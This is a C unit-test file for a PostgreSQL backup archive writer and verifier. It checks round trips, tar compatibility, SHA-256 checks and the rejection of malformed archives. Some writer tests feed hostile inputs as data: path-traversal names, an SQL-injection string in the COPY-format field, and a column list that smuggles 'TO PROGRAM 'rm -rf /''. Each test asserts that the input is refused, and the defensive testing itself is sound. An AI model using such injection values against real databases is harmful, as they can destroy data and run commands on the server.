/* test_archive.c - the backup archive: written, verified and read back
 * byte for byte; readable by plain tar; and every kind of broken or
 * hostile archive refused with PGW_EINVAL naming the entry and the
 * problem, without writing anything. */
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <sys/mount.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include <jansson.h>

#include "archive.h"
#include "fixture.h"
#include "hash.h"
#include "pgward.h"

struct fx {
	char *dir;
	char path[4096]; /* dir/a.tar.zst, not created */
	struct pgw_err err;
	struct pgw_manifest *m;
	char *mnt; /* a tmpfs mounted by a test */
};

static int setup(void **state)
{
	struct fx *fx = calloc(1, sizeof(*fx));

	if (!fx)
		return -1;
	fx->dir = fixture_mkdtemp();
	if (!fx->dir) {
		free(fx);
		return -1;
	}
	snprintf(fx->path, sizeof(fx->path), "%s/a.tar.zst", fx->dir);
	*state = fx;
	return 0;
}

static int teardown(void **state)
{
	struct fx *fx = *state;

	pgw_manifest_free(fx->m);
	if (fx->mnt) {
		umount2(fx->mnt, MNT_DETACH);
		free(fx->mnt);
	}
	fixture_rmdtemp(fx->dir);
	free(fx);
	return 0;
}

/* dir/name into out[4096]. */
static char *in_dir(char out[4096], const struct fx *fx, const char *name)
{
	snprintf(out, 4096, "%s/%s", fx->dir, name);
	return out;
}

/* The whole file, its size in *len; the caller frees. */
static unsigned char *slurp(const char *path, size_t *len)
{
	FILE *f = fopen(path, "rb");
	unsigned char *p = NULL;
	long n;

	assert_non_null(f);
	assert_int_equal(fseek(f, 0, SEEK_END), 0);
	n = ftell(f);
	assert_true(n >= 0);
	rewind(f);
	p = malloc((size_t)n + 1);
	assert_non_null(p);
	assert_int_equal(fread(p, 1, (size_t)n, f), (size_t)n);
	fclose(f);
	*len = (size_t)n;
	return p;
}

static void spit(const char *path, const void *data, size_t len)
{
	FILE *f = fopen(path, "wb");

	assert_non_null(f);
	assert_int_equal(fwrite(data, 1, len, f), len);
	assert_int_equal(fclose(f), 0);
}

/* ---- a sample archive, written with the writer ---- */

struct sample {
	const char *name;
	const char *data;
	size_t len;
	long long rows;
};

#define S(name, lit, rows)                       \
	{                                        \
		name, lit, sizeof(lit) - 1, rows \
	}
static const struct sample sample[] = {
	S("schema/pre-data.sql", "CREATE TABLE public.t (id int, s text);\n",
	  -1),
	S("data/0001.public.t.copy.001", "1\tone\n2\ttwo\n", 2),
	S("data/0002.sch.ema.t\xc3\xa4\xe2\x82\xac.copy.001", "x\\\\y\n", 1),
	S("data/0001.public.t.copy.002", "3\tth\0ree\n", 1),
	S("schema/post-data.sql",
	  "ALTER TABLE public.t ADD PRIMARY KEY (id);\n", -1),
	S("restore.sql", "\\i schema/pre-data.sql\n", -1),
};
#define N_SAMPLE (sizeof(sample) / sizeof(sample[0]))

static const char *const sample_ext[] = { "plpgsql 1.0", "pgcrypto 1.3", NULL };
static const char *const sample_set[] = { "DateStyle=ISO, MDY",
	                                  "search_path=", NULL };
static const char *const sample_omit[] = { "large object 16384", NULL };
static const char *const sample_schemas[] = { "public", "sch.ema",
	                                      "odd\nschema", NULL };
static const struct pgw_manifest_table sample_tables[] = {
	{ 1, (char *)"public", (char *)"t", (char *)"id, \"S\"\"x\"", 3 },
	{ 2, (char *)"sch.ema", (char *)"t\xc3\xa4\xe2\x82\xac", NULL, 1 },
	{ 3, (char *)"odd\nschema", (char *)"empty", (char *)"", 0 },
};

static const struct pgw_manifest_info sample_info = {
	.created_at = "2026-11-25T10:00:00Z",
	.server_version_num = 150004,
	.database = "app",
	.encoding = "UTF8",
	.collation = "C.UTF-8",
	.ctype = "C.UTF-8",
	.schema_version = "042",
	.git_commit = "0123456789abcdef0123456789abcdef01234567",
	.git_tag = "v1.4.0",
	.wal_lsn = "0/1A2B3C4",
	.extensions = sample_ext,
	.settings = sample_set,
	.omitted = sample_omit,
	.schemas = sample_schemas,
	.tables = sample_tables,
	.n_tables = 3,
};

/* One table, `rows` rows: enough for archives with parts of table 1. */
static struct pgw_manifest_info one_table(struct pgw_manifest_table *t,
                                          long long rows)
{
	struct pgw_manifest_info info = { 0 };

	t->seq = 1;
	t->schema = (char *)"public";
	t->name = (char *)"t";
	t->columns = NULL;
	t->rows = rows;
	info.tables = t;
	info.n_tables = 1;
	return info;
}

static void write_sample(struct fx *fx, const char *path, int level,
                         char sha[65])
{
	struct pgw_archive_writer *w = NULL;
	size_t i;

	if (pgw_archive_create(&w, path, level, &fx->err))
		fail_msg("create: %s", fx->err.msg);
	for (i = 0; i < N_SAMPLE; i++) {
		const struct sample *s = &sample[i];

		if (pgw_archive_add(w, s->name, s->data, s->len,
		                    s->rows >= 0 ? "text" : NULL, s->rows,
		                    &fx->err))
			fail_msg("add %s: %s", s->name, fx->err.msg);
	}
	if (pgw_archive_finish(w, &sample_info, sha, &fx->err))
		fail_msg("finish: %s", fx->err.msg);
}

static void verify_ok(struct fx *fx, const char *path)
{
	pgw_manifest_free(fx->m);
	fx->m = NULL;
	pgw_err_clear(&fx->err);
	if (pgw_archive_verify(&fx->m, path, &fx->err))
		fail_msg("verify: %s", fx->err.msg);
	assert_non_null(fx->m);
}

/* Verify `path`, expecting `code` and every NULL-terminated string in the
 * message; nothing may appear in (or vanish from) the test dir. */
static void verify_fails(struct fx *fx, const char *path, int code, ...)
{
	struct pgw_manifest *m = NULL;
	char *before = fixture_listing(fx->dir, true), *after;
	const char *want;
	va_list ap;
	int rc;

	pgw_err_clear(&fx->err);
	rc = pgw_archive_verify(&m, path, &fx->err);
	after = fixture_listing(fx->dir, true);
	assert_string_equal(before, after);
	free(before);
	free(after);
	if (rc != code)
		fail_msg("expected %d, got %d: %s", code, rc, fx->err.msg);
	assert_int_equal(fx->err.code, code);
	assert_null(m);
	va_start(ap, code);
	while ((want = va_arg(ap, const char *)))
		if (!strstr(fx->err.msg, want))
			fail_msg("'%s' not in: %s", want, fx->err.msg);
	va_end(ap);
}

/* Read the archive back with the reader: every sample entry in order,
 * byte for byte, read `chunk` bytes at a time. */
static void read_back(struct fx *fx, const char *path, size_t chunk)
{
	struct pgw_archive_reader *r = NULL;
	const struct pgw_archive_entry *e;
	char *buf = malloc(chunk), *got = malloc(64);
	size_t i = 0, n, len, cap = 64;

	assert_non_null(buf);
	assert_non_null(got);
	if (pgw_archive_open(&r, path, fx->m, &fx->err))
		fail_msg("open: %s", fx->err.msg);
	while (pgw_archive_next(r, &e, &fx->err) == 1) {
		assert_true(i < N_SAMPLE);
		assert_string_equal(e->name, sample[i].name);
		assert_int_equal(e->bytes, sample[i].len);
		len = 0;
		for (;;) {
			if (pgw_archive_read(r, buf, chunk, &n, &fx->err))
				fail_msg("read %s: %s", e->name, fx->err.msg);
			if (!n)
				break;
			if (len + n > cap) {
				cap = (len + n) * 2;
				got = realloc(got, cap);
				assert_non_null(got);
			}
			memcpy(got + len, buf, n);
			len += n;
		}
		assert_int_equal(len, sample[i].len);
		assert_memory_equal(got, sample[i].data, len);
		i++;
	}
	assert_int_equal(fx->err.code, PGW_OK);
	assert_int_equal(i, N_SAMPLE);
	/* at the end it stays at the end */
	assert_int_equal(pgw_archive_next(r, &e, &fx->err), 0);
	pgw_archive_close(r);
	free(buf);
	free(got);
}

static void test_archive__round_trip_zstd(void **state)
{
	struct fx *fx = *state;
	const struct pgw_manifest *m;
	char sha[65], file_sha[65];
	unsigned char *bytes;
	size_t i, len;

	write_sample(fx, fx->path, 3, sha);
	verify_ok(fx, fx->path);
	m = fx->m;
	assert_int_equal(m->format, 1);
	assert_string_equal(m->created_at, "2026-11-25T10:00:00Z");
	assert_int_equal(m->server_version_num, 150004);
	assert_string_equal(m->database, "app");
	assert_string_equal(m->encoding, "UTF8");
	assert_string_equal(m->collation, "C.UTF-8");
	assert_string_equal(m->ctype, "C.UTF-8");
	assert_string_equal(m->schema_version, "042");
	assert_string_equal(m->git_commit, sample_info.git_commit);
	assert_string_equal(m->git_tag, "v1.4.0");
	assert_string_equal(m->wal_lsn, "0/1A2B3C4");
	assert_string_equal(m->extensions[0], "plpgsql 1.0");
	assert_string_equal(m->extensions[1], "pgcrypto 1.3");
	assert_null(m->extensions[2]);
	assert_string_equal(m->settings[0], "DateStyle=ISO, MDY");
	assert_string_equal(m->settings[1], "search_path=");
	assert_null(m->settings[2]);
	assert_string_equal(m->omitted[0], "large object 16384");
	assert_null(m->omitted[1]);
	for (i = 0; i < 3; i++)
		assert_string_equal(m->schemas[i], sample_schemas[i]);
	assert_null(m->schemas[3]);
	assert_int_equal(m->n_tables, 3);
	for (i = 0; i < 3; i++) {
		assert_int_equal(m->tables[i].seq, sample_tables[i].seq);
		assert_string_equal(m->tables[i].schema,
		                    sample_tables[i].schema);
		assert_string_equal(m->tables[i].name, sample_tables[i].name);
		assert_int_equal(m->tables[i].rows, sample_tables[i].rows);
	}
	assert_string_equal(m->tables[0].columns, "id, \"S\"\"x\"");
	assert_null(m->tables[1].columns);
	assert_string_equal(m->tables[2].columns, "");
	assert_int_equal(m->n_entries, N_SAMPLE);
	for (i = 0; i < N_SAMPLE; i++) {
		char want[65];

		pgw_sha256_hex(want, sample[i].data, sample[i].len);
		assert_string_equal(m->entries[i].name, sample[i].name);
		assert_int_equal(m->entries[i].bytes, sample[i].len);
		assert_int_equal(m->entries[i].rows, sample[i].rows);
		assert_string_equal(m->entries[i].sha256, want);
		if (sample[i].rows >= 0)
			assert_string_equal(m->entries[i].copy_format, "text");
		else
			assert_null(m->entries[i].copy_format);
	}
	/* the checksum finish reported is the file's, and verify agrees */
	bytes = slurp(fx->path, &len);
	pgw_sha256_hex(file_sha, bytes, len);
	assert_string_equal(sha, file_sha);
	assert_string_equal(m->archive_sha256, file_sha);
	assert_int_equal(m->archive_bytes, len);
	/* zstd magic */
	assert_true(len > 4 && bytes[0] == 0x28 && bytes[1] == 0xb5 &&
	            bytes[2] == 0x2f && bytes[3] == 0xfd);
	free(bytes);
	read_back(fx, fx->path, 65536);
	read_back(fx, fx->path, 3);
}

static void test_archive__round_trip_plain_tar(void **state)
{
	struct fx *fx = *state;
	unsigned char *bytes;
	char sha[65];
	size_t len;

	write_sample(fx, fx->path, 0, sha);
	bytes = slurp(fx->path, &len);
	assert_true(len > 512);
	assert_memory_equal(bytes + 257, "ustar", 5);
	assert_int_equal(len % 512, 0);
	free(bytes);
	verify_ok(fx, fx->path);
	assert_int_equal(fx->m->n_entries, N_SAMPLE);
	read_back(fx, fx->path, 7);
}

static void test_archive__manifest_without_optional_fields(void **state)
{
	struct fx *fx = *state;
	struct pgw_archive_writer *w = NULL;
	struct pgw_manifest_info info = { 0 };
	char sha[65];

	assert_int_equal(pgw_archive_create(&w, fx->path, 1, &fx->err), 0);
	assert_int_equal(pgw_archive_add(w, "schema/pre-data.sql", "", 0, NULL,
	                                 -1, &fx->err),
	                 0);
	assert_int_equal(pgw_archive_add(w, "schema/post-data.sql", "", 0, NULL,
	                                 -1, &fx->err),
	                 0);
	assert_int_equal(
	        pgw_archive_add(w, "restore.sql", "", 0, NULL, -1, &fx->err),
	        0);
	assert_int_equal(pgw_archive_finish(w, &info, sha, &fx->err), 0);
	verify_ok(fx, fx->path);
	assert_non_null(fx->m->created_at); /* now, when not given */
	assert_int_equal(strlen(fx->m->created_at), 20);
	assert_null(fx->m->database);
	assert_null(fx->m->schema_version);
	assert_null(fx->m->git_commit);
	assert_null(fx->m->git_tag);
	assert_null(fx->m->extensions[0]);
	assert_null(fx->m->settings[0]);
	assert_null(fx->m->omitted[0]);
	assert_null(fx->m->schemas[0]);
	assert_int_equal(fx->m->n_tables, 0);
	assert_int_equal(fx->m->n_entries, 3);
}

static void test_archive__file_is_0600_and_no_partial_left(void **state)
{
	struct fx *fx = *state;
	char partial[4200], sha[65];
	struct stat st;
	mode_t old = umask(0);

	write_sample(fx, fx->path, 3, sha);
	umask(old);
	assert_int_equal(stat(fx->path, &st), 0);
	assert_int_equal(st.st_mode & 07777, 0600);
	snprintf(partial, sizeof(partial), "%s.partial", fx->path);
	assert_int_equal(access(partial, F_OK), -1);
}

static void test_archive__large_entry_streams_through(void **state)
{
	struct fx *fx = *state;
	struct pgw_archive_writer *w = NULL;
	struct pgw_archive_reader *r = NULL;
	const struct pgw_archive_entry *e;
	size_t len = 3 * 1024 * 1024 + 17, i, n, off = 0;
	unsigned char *big = malloc(len), buf[4096];
	uint32_t x = 12345;
	struct pgw_manifest_table t;
	struct pgw_manifest_info info = one_table(&t, 99);
	char sha[65];

	assert_non_null(big);
	for (i = 0; i < len; i++) {
		x = x * 1103515245u + 12345u;
		big[i] = (unsigned char)(x >> 16);
	}
	assert_int_equal(pgw_archive_create(&w, fx->path, 3, &fx->err), 0);
	assert_int_equal(pgw_archive_add(w, "schema/pre-data.sql", "y", 1, NULL,
	                                 -1, &fx->err),
	                 0);
	assert_int_equal(pgw_archive_add(w, "data/0001.public.big.copy.000",
	                                 big, len, "binary", 99, &fx->err),
	                 0);
	assert_int_equal(pgw_archive_add(w, "schema/post-data.sql", "z", 1,
	                                 NULL, -1, &fx->err),
	                 0);
	assert_int_equal(
	        pgw_archive_add(w, "restore.sql", "x", 1, NULL, -1, &fx->err),
	        0);
	assert_int_equal(pgw_archive_finish(w, &info, sha, &fx->err), 0);
	verify_ok(fx, fx->path);
	assert_int_equal(fx->m->entries[1].bytes, len);
	assert_int_equal(fx->m->entries[1].rows, 99);
	assert_string_equal(fx->m->entries[1].copy_format, "binary");
	assert_int_equal(pgw_archive_open(&r, fx->path, fx->m, &fx->err), 0);
	assert_int_equal(pgw_archive_next(r, &e, &fx->err), 1);
	assert_int_equal(pgw_archive_next(r, &e, &fx->err), 1);
	assert_string_equal(e->name, "data/0001.public.big.copy.000");
	for (;;) {
		assert_int_equal(
		        pgw_archive_read(r, buf, sizeof(buf), &n, &fx->err), 0);
		if (!n)
			break;
		assert_true(off + n <= len);
		assert_memory_equal(buf, big + off, n);
		off += n;
	}
	assert_int_equal(off, len);
	assert_int_equal(pgw_archive_next(r, &e, &fx->err), 1);
	assert_string_equal(e->name, "schema/post-data.sql");
	assert_int_equal(pgw_archive_next(r, &e, &fx->err), 1);
	assert_string_equal(e->name, "restore.sql");
	assert_int_equal(pgw_archive_next(r, &e, &fx->err), 0);
	pgw_archive_close(r);
	free(big);
}

/* The verifier hashes on a thread of its own, through a ring of 64 kB
 * slots: entries of sizes around the slot size, empty ones, and more of
 * them than its first table of digests holds, each get their own SHA-256;
 * the whole file's too; and a change in the last one is still found. */
static void test_archive__verify_hashes_every_entry_of_many(void **state)
{
	static const size_t sizes[] = { 0,      1,     65535,
		                        65536,  65537, 131072,
		                        200003, 7,     64 * 1024 * 3 - 1 };
	enum { PARTS = 150 };
	struct fx *fx = *state;
	struct pgw_archive_writer *w = NULL;
	struct pgw_manifest_table t;
	struct pgw_manifest_info info = one_table(&t, PARTS);
	size_t i, j, len, n_sizes = sizeof(sizes) / sizeof(sizes[0]);
	unsigned char *data = malloc(200003 + 64), *bytes, *mark;
	char name[64], sha[65], want[65], plain[4096], file_sha[65];
	int level;

	assert_non_null(data);
	for (level = 0; level <= 1; level++) {
		const char *path =
		        level ? fx->path : in_dir(plain, fx, "p.tar");

		assert_int_equal(pgw_archive_create(&w, path, level, &fx->err),
		                 0);
		assert_int_equal(pgw_archive_add(w, "schema/pre-data.sql", "y",
		                                 1, NULL, -1, &fx->err),
		                 0);
		for (i = 1; i <= PARTS; i++) {
			len = sizes[i % n_sizes];
			for (j = 0; j < len; j++)
				data[j] =
				        (unsigned char)('a' + (i * 7 + j) % 26);
			if (i == PARTS && len >= 16)
				memcpy(data + len / 2, "@LAST@PART@HERE@", 16);
			snprintf(name, sizeof(name),
			         "data/0001.public.t.copy.%03zu", i);
			assert_int_equal(pgw_archive_add(w, name, data, len,
			                                 "text", 1, &fx->err),
			                 0);
		}
		assert_int_equal(pgw_archive_add(w, "schema/post-data.sql", "z",
		                                 1, NULL, -1, &fx->err),
		                 0);
		assert_int_equal(pgw_archive_add(w, "restore.sql", "x", 1, NULL,
		                                 -1, &fx->err),
		                 0);
		assert_int_equal(pgw_archive_finish(w, &info, sha, &fx->err),
		                 0);
		verify_ok(fx, path);
		assert_string_equal(fx->m->archive_sha256, sha);
		bytes = slurp(path, &len);
		pgw_sha256_hex(file_sha, bytes, len);
		assert_string_equal(fx->m->archive_sha256, file_sha);
		assert_int_equal(fx->m->archive_bytes, len);
		free(bytes);
		assert_int_equal(fx->m->n_entries, PARTS + 3);
		for (i = 1; i <= PARTS; i++) {
			len = sizes[i % n_sizes];
			for (j = 0; j < len; j++)
				data[j] =
				        (unsigned char)('a' + (i * 7 + j) % 26);
			if (i == PARTS && len >= 16)
				memcpy(data + len / 2, "@LAST@PART@HERE@", 16);
			pgw_sha256_hex(want, data, len);
			assert_int_equal(fx->m->entries[i].bytes, len);
			assert_string_equal(fx->m->entries[i].sha256, want);
		}
	}
	/* the last part changed in place (plain tar): found, and named */
	bytes = slurp(plain, &len);
	for (mark = NULL, i = 0; !mark && i + 16 <= len; i++)
		if (!memcmp(bytes + i, "@LAST@PART@HERE@", 16))
			mark = bytes + i;
	assert_non_null(mark);
	mark[3] ^= 1;
	spit(plain, bytes, len);
	free(bytes);
	verify_fails(fx, plain, PGW_EINVAL, "data/0001.public.t.copy.150",
	             "SHA-256", NULL);
	free(data);
}

/* ---- plain tar can read it ---- */

/* Run argv with stdout into out_path; the exit status, or 127 when the
 * program cannot be run. */
static int run(const char *const argv[], const char *out_path)
{
	pid_t pid = fork();
	int status, fd;

	assert_true(pid >= 0);
	if (pid == 0) {
		fd = open(out_path, O_WRONLY | O_CREAT | O_TRUNC, 0600);
		if (fd < 0)
			_exit(126);
		dup2(fd, 1);
		fd = open("/dev/null", O_WRONLY);
		if (fd >= 0)
			dup2(fd, 2);
		execvp(argv[0], (char *const *)argv);
		_exit(127);
	}
	assert_int_equal(waitpid(pid, &status, 0), pid);
	return WIFEXITED(status) ? WEXITSTATUS(status) : 128;
}

static void test_archive__plain_tar_lists_and_extracts(void **state)
{
	struct fx *fx = *state;
	struct pgw_buf want = PGW_BUF_INIT;
	char out[4096], sha[65];
	/* literal: in the C locale tar would escape the name's UTF-8 */
	const char *list_z[] = { "tar", "--zstd", "--quoting-style=literal",
		                 "-tf", fx->path, NULL };
	const char *tar_version[] = { "tar", "--version", NULL };
	const char *zstd_version[] = { "zstd", "--version", NULL };
	const char *cat[] = { "tar",
		              "--zstd",
		              "-xOf",
		              fx->path,
		              "data/0001.public.t.copy.002",
		              NULL };
	unsigned char *got;
	size_t i, len;

	in_dir(out, fx, "tar.out");
	if (run(tar_version, out) != 0 || run(zstd_version, out) != 0)
		skip(); /* no GNU tar or no zstd on this machine */
	write_sample(fx, fx->path, 3, sha);
	assert_int_equal(run(list_z, out), 0);
	for (i = 0; i < N_SAMPLE; i++)
		pgw_buf_printf(&want, "%s\n", sample[i].name);
	pgw_buf_puts(&want, "manifest.json\n");
	got = slurp(out, &len);
	got[len] = '\0';
	assert_string_equal((char *)got, want.ptr);
	free(got);
	pgw_buf_release(&want);
	assert_int_equal(run(cat, out), 0);
	got = slurp(out, &len);
	assert_int_equal(len, sample[3].len);
	assert_memory_equal(got, sample[3].data, len);
	free(got);
}

/* ---- the writer's own checks ---- */

static struct pgw_archive_writer *writer(struct fx *fx, int level)
{
	struct pgw_archive_writer *w = NULL;

	if (pgw_archive_create(&w, fx->path, level, &fx->err))
		fail_msg("create: %s", fx->err.msg);
	return w;
}

static void add_fails(struct fx *fx, struct pgw_archive_writer *w,
                      const char *name, const char *fmt, long long rows,
                      const char *want)
{
	pgw_err_clear(&fx->err);
	assert_int_equal(
	        pgw_archive_add(w, name, "x\n", 2, fmt, rows, &fx->err),
	        PGW_EINVAL);
	if (!strstr(fx->err.msg, want))
		fail_msg("'%s' not in: %s", want, fx->err.msg);
	pgw_err_clear(&fx->err);
}

static void add_ok(struct fx *fx, struct pgw_archive_writer *w,
                   const char *name, long long rows)
{
	pgw_err_clear(&fx->err);
	if (pgw_archive_add(w, name, "x\n", 2, rows >= 0 ? "text" : NULL, rows,
	                    &fx->err))
		fail_msg("add %s: %s", name, fx->err.msg);
}

static void test_archive__writer_refuses_names_outside_the_layout(void **state)
{
	struct fx *fx = *state;
	struct pgw_archive_writer *w = writer(fx, 0);
	struct pgw_manifest_table t;
	struct pgw_manifest_info info = one_table(&t, 1);
	char sha[65];

	add_fails(fx, w, "../schema/pre-data.sql", NULL, -1, "'..'");
	add_fails(fx, w, "/schema/pre-data.sql", NULL, -1, "absolute");
	add_fails(fx, w, "notes.txt", NULL, -1, "layout");
	add_fails(fx, w, "data\\0001.a.b.copy.000", "text", 1, "backslash");
	add_fails(fx, w, "manifest.json", NULL, -1, "pgw_archive_finish");
	add_fails(fx, w, "restore.sql\n", NULL, -1, "control character");
	add_ok(fx, w, "schema/pre-data.sql", -1);
	add_fails(fx, w, "data/001.public.t.copy.001", "text", 1, "layout");
	add_fails(fx, w, "data/0001.publict.copy.001", "text", 1, "layout");
	add_fails(fx, w, "data/0001.public.t.copy.01", "text", 1, "layout");
	add_fails(fx, w, "data/0001.public..t.copy.001", "text", 1, "'..'");
	add_fails(fx, w, "data/0001.pub\x7flic.t.copy.001", "text", 1,
	          "control character");
	add_fails(fx, w, "data/0001.pub\xc2\x85lic.t.copy.001", "text", 1,
	          "control character");
	add_fails(fx, w, "data/0001.p\xe9.t.copy.001", "text", 1, "UTF-8");
	add_fails(fx, w, "data/0001.public.t.copy.001", NULL, 1, "COPY format");
	add_fails(fx, w, "data/0001.public.t.copy.001",
	          "text); DROP TABLE x; --", 1, "COPY format");
	add_fails(fx, w, "data/0001.public.t.copy.001", "text", -1, "rows");
	/* the writer goes on after a refused name */
	add_ok(fx, w, "data/0001.public.t.copy.001", 1);
	add_ok(fx, w, "schema/post-data.sql", -1);
	add_ok(fx, w, "restore.sql", -1);
	assert_int_equal(pgw_archive_finish(w, &info, sha, &fx->err), 0);
	verify_ok(fx, fx->path);
}

static void test_archive__writer_keeps_the_layout_order(void **state)
{
	struct fx *fx = *state;
	struct pgw_archive_writer *w = writer(fx, 0);
	struct pgw_manifest_table t[2] = {
		{ 1, (char *)"a", (char *)"b", NULL, 2 },
		{ 2, (char *)"a", (char *)"c", NULL, 1 },
	};
	struct pgw_manifest_info info = { .tables = t, .n_tables = 2 };
	char sha[65];

	add_fails(fx, w, "data/0001.a.b.copy.000", "text", 1, "out of order");
	add_fails(fx, w, "restore.sql", NULL, -1, "out of order");
	add_fails(fx, w, "schema/post-data.sql", NULL, -1, "out of order");
	add_ok(fx, w, "schema/pre-data.sql", -1);
	add_fails(fx, w, "schema/pre-data.sql", NULL, -1, "twice");
	add_fails(fx, w, "restore.sql", NULL, -1, "out of order");
	/* tables interleave; the parts of one table go up */
	add_ok(fx, w, "data/0001.a.b.copy.001", 1);
	add_ok(fx, w, "data/0002.a.c.copy.001", 1);
	add_ok(fx, w, "data/0001.a.b.copy.003", 1);
	add_fails(fx, w, "data/0001.a.b.copy.002", "text", 1, "out of order");
	add_ok(fx, w, "schema/post-data.sql", -1);
	add_fails(fx, w, "data/0003.a.d.copy.001", "text", 1, "out of order");
	add_ok(fx, w, "restore.sql", -1);
	assert_int_equal(pgw_archive_finish(w, &info, sha, &fx->err), 0);
	verify_ok(fx, fx->path);
	assert_int_equal(fx->m->n_entries, 6);
	assert_int_equal(fx->m->n_tables, 2);
}

static void test_archive__finish_needs_the_whole_layout(void **state)
{
	struct fx *fx = *state;
	struct pgw_archive_writer *w = writer(fx, 3);
	char partial[4200], sha[65];

	snprintf(partial, sizeof(partial), "%s.partial", fx->path);
	add_ok(fx, w, "schema/pre-data.sql", -1);
	add_ok(fx, w, "schema/post-data.sql", -1);
	assert_int_equal(access(partial, F_OK), 0);
	assert_int_equal(pgw_archive_finish(w, NULL, sha, &fx->err),
	                 PGW_EINVAL);
	assert_non_null(strstr(fx->err.msg, "'restore.sql' is missing"));
	/* finish freed the writer and removed the partial file */
	assert_int_equal(access(partial, F_OK), -1);
	assert_int_equal(access(fx->path, F_OK), -1);
}

static void test_archive__finish_checks_the_tables(void **state)
{
	static const char *const want[] = {
		"belongs to no table",        "has 3 rows, its data parts 2",
		"not a list of column names", "belongs to no table",
		"lists table 1 twice",
	};
	struct fx *fx = *state;
	struct pgw_archive_writer *w;
	struct pgw_manifest_table t[2];
	struct pgw_manifest_info info;
	char partial[4200], sha[65];
	size_t i;

	snprintf(partial, sizeof(partial), "%s.partial", fx->path);
	for (i = 0; i < sizeof(want) / sizeof(want[0]); i++) {
		w = writer(fx, 0);
		add_ok(fx, w, "schema/pre-data.sql", -1);
		add_ok(fx, w, "data/0001.public.t.copy.001", 2);
		add_ok(fx, w, "schema/post-data.sql", -1);
		add_ok(fx, w, "restore.sql", -1);
		info = one_table(&t[0], 2);
		if (i == 0)
			info.n_tables = 0;
		else if (i == 1)
			t[0].rows = 3;
		else if (i == 2)
			t[0].columns = (char *)"id) TO PROGRAM 'rm -rf /'; --";
		else if (i == 3)
			t[0].seq = 2;
		t[1] = t[0];
		t[1].rows = 0;
		info.n_tables += i == 4;
		pgw_err_clear(&fx->err);
		assert_int_equal(pgw_archive_finish(w, &info, sha, &fx->err),
		                 PGW_EINVAL);
		if (!strstr(fx->err.msg, want[i]))
			fail_msg("'%s' not in: %s", want[i], fx->err.msg);
		assert_int_equal(access(partial, F_OK), -1);
		assert_int_equal(access(fx->path, F_OK), -1);
	}
}

static void test_archive__abort_removes_the_partial_file(void **state)
{
	struct fx *fx = *state;
	struct pgw_archive_writer *w = writer(fx, 3);
	char partial[4200];

	snprintf(partial, sizeof(partial), "%s.partial", fx->path);
	add_ok(fx, w, "schema/pre-data.sql", -1);
	assert_int_equal(access(partial, F_OK), 0);
	pgw_archive_abort(w);
	assert_int_equal(access(partial, F_OK), -1);
	assert_int_equal(access(fx->path, F_OK), -1);
	pgw_archive_abort(NULL);
}

static void test_archive__create_refuses_existing_files(void **state)
{
	struct fx *fx = *state;
	struct pgw_archive_writer *w = NULL;
	char partial[4200];

	assert_int_equal(pgw_archive_create(&w, fx->path, 25, &fx->err),
	                 PGW_EINVAL);
	assert_non_null(strstr(fx->err.msg, "zstd level 25"));
	assert_null(w);
	pgw_err_clear(&fx->err);

	assert_int_equal(fixture_write(fx->dir, "a.tar.zst", "old"), 0);
	assert_int_equal(pgw_archive_create(&w, fx->path, 3, &fx->err),
	                 PGW_EINVAL);
	assert_non_null(strstr(fx->err.msg, "already exists"));
	assert_null(w);
	unlink(fx->path);
	pgw_err_clear(&fx->err);

	/* a partial file a live writer holds (its flock) is not ours */
	snprintf(partial, sizeof(partial), "%s.partial", fx->path);
	assert_int_equal(fixture_write(fx->dir, "a.tar.zst.partial", "old"), 0);
	{
		int held = open(partial, O_RDONLY);

		assert_true(held >= 0);
		assert_int_equal(flock(held, LOCK_EX), 0);
		assert_int_equal(pgw_archive_create(&w, fx->path, 3, &fx->err),
		                 PGW_EIO);
		close(held);
	}
	assert_non_null(strstr(fx->err.msg, ".partial"));
	assert_non_null(strstr(fx->err.msg, "File exists"));
	assert_null(w);
	assert_int_equal(access(partial, F_OK), 0);
	pgw_err_clear(&fx->err);

	/* one whose writer died (no lock held) is left-over: replaced */
	assert_int_equal(pgw_archive_create(&w, fx->path, 3, &fx->err), 0);
	assert_non_null(w);
	pgw_archive_abort(w);
	w = NULL;
	assert_int_equal(access(partial, F_OK), -1);

	in_dir(partial, fx, "no/such/dir/a.tar.zst");
	assert_int_equal(pgw_archive_create(&w, partial, 3, &fx->err), PGW_EIO);
	assert_non_null(strstr(fx->err.msg, "No such file or directory"));
}

/* Fill the writer until it fails: PGW_EIO naming `reason`, in add or in
 * finish; then nothing is left. */
static void fill_until_failure(struct fx *fx, int level, const char *reason)
{
	struct pgw_archive_writer *w = writer(fx, level);
	size_t len = 512 * 1024, i;
	unsigned char *junk = malloc(len);
	char name[64], partial[4200], sha[65];
	FILE *f = fopen("/dev/urandom", "rb");
	int rc = 0;

	assert_non_null(junk);
	assert_non_null(f);
	snprintf(partial, sizeof(partial), "%s.partial", fx->path);
	add_ok(fx, w, "schema/pre-data.sql", -1);
	for (i = 0; i < 8 && !rc; i++) {
		snprintf(name, sizeof(name), "data/0001.public.t.copy.%03zu",
		         i);
		/* what zstd cannot shrink, not even against the last part */
		assert_int_equal(fread(junk, 1, len, f), len);
		rc = pgw_archive_add(w, name, junk, len, "text", 1, &fx->err);
	}
	fclose(f);
	if (!rc) {
		struct pgw_manifest_table t;
		struct pgw_manifest_info info = one_table(&t, (long long)i);

		/* with zstd's worker threads the compressed bytes may still
		 * be on their way: the failure can surface at a later step */
		pgw_err_clear(&fx->err);
		rc = pgw_archive_add(w, "schema/post-data.sql", "x\n", 2, NULL,
		                     -1, &fx->err);
		if (!rc)
			rc = pgw_archive_add(w, "restore.sql", "x\n", 2, NULL,
			                     -1, &fx->err);
		if (!rc) {
			rc = pgw_archive_finish(w, &info, sha, &fx->err);
			w = NULL;
		}
	}
	assert_int_equal(rc, PGW_EIO);
	if (!strstr(fx->err.msg, reason))
		fail_msg("'%s' not in: %s", reason, fx->err.msg);
	assert_non_null(strstr(fx->err.msg, ".partial"));
	if (w) {
		/* the writer refuses to go on */
		pgw_err_clear(&fx->err);
		assert_int_equal(pgw_archive_add(w, "schema/post-data.sql", "",
		                                 0, NULL, -1, &fx->err),
		                 PGW_EIO);
		assert_non_null(strstr(fx->err.msg, "failed earlier"));
		pgw_archive_abort(w);
	}
	assert_int_equal(access(partial, F_OK), -1);
	assert_int_equal(access(fx->path, F_OK), -1);
	free(junk);
}

